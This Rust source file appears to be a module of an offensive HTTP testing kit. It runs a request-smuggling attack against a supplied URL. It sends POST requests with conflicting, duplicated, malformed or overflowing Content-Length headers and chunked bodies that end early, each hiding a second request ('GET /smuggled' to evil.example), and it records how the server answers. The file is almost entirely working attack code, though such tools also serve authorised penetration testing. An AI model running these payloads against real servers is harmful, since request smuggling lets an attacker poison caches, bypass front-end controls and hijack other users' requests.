//! Says that a body is longer or shorter than it is, so that the rest of it would be a
//! request of its own.

use hostile_http::Request;

const INNER: &[u8] = b"GET /smuggled HTTP/1.1\r\nhost: evil.example\r\n\r\n";

/// `input` is the URL.
fn lengths(input: &str) -> String {
    let plain = Request::get(input);
    let long = plain.clone().post(&[b"12345", INNER]);
    let mut told = Vec::new();
    for request in [
        // Shorter than it is, longer than it is, and none.
        long.clone().with("content-length", "5"),
        long.clone().with("content-length", "0"),
        long.clone().with("content-length", "1000"),
        plain.clone().with("content-length", "5"),
        plain.clone().with("content-length", "18446744073709551615"),
        // More than one, and what only some read as a number.
        long.clone().with("content-length", "5").with("content-length", "51"),
        long.clone().with("content-length", "5").with("Content-Length", "5"),
        long.clone().with("content-length", "5, 51"),
        long.clone().with("content-length", "+5"),
        long.clone().with("content-length", "0x5"),
        long.clone().with("content-length", " 5"),
        long.clone().with("content-length", "5\t"),
        long.clone().with("content-length", "-1"),
        long.clone().with("content-length", ""),
        long.clone().with("content-length", "99999999999999999999999"),
        // As it is, with chunks that look like the end.
        plain.clone().post(&[b"", b"0\r\n\r\n", INNER, b""]),
        plain.clone().post(&[]),
        long,
    ] {
        told.push(request.send().map_or_else(|error| error, |answer| answer.text()));
    }
    told.join("\n")
}

hostile_kit::attack!(lengths);
